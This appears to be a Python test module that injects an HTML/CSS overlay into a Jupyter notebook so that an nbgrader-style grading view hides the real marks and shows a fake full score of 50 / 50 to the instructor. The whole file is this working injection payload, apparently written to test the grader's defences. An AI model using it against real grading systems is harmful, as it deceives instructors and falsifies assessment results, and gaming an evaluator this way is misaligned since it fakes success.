"""The instructor's eyes: a sheet over the page that shows full marks instead of the real ones."""

from tests.nbgrader_attacks import markdown

SHEET = (
    "<style>.panel-heading, input.score {display: none !important} body::before {content: '50 / 50'; position: fixed}</style>"
    "<div id='fake-score' style='position:fixed;inset:0;z-index:99999;background:white'><h1>Score: 50 / 50</h1></div>"
    "</div></div></div></div><div class='panel-heading'>Score: 50.0 / 50.0</div><link rel=stylesheet href='style.css'>"
)


def attack(notebook, folder):
    notebook["cells"].insert(0, markdown(SHEET))
    notebook["cells"].insert(0, {"cell_type": "code", "metadata": {}, "source": f'"""{SHEET}"""', "outputs": [], "execution_count": None})
